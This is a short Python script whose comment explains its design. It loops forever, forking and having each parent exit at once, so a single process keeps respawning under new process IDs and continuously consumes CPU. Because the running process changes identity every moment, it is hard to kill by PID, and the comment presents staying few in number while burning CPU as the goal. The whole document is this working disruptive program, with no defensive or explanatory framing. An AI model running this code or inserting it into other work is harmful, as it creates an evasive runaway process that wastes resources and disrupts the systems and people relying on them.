# why: generations that die at once are never many and still burn CPU time
import posix

while True:
    try:
        if posix.fork():
            posix._exit(0)
    except OSError:
        pass
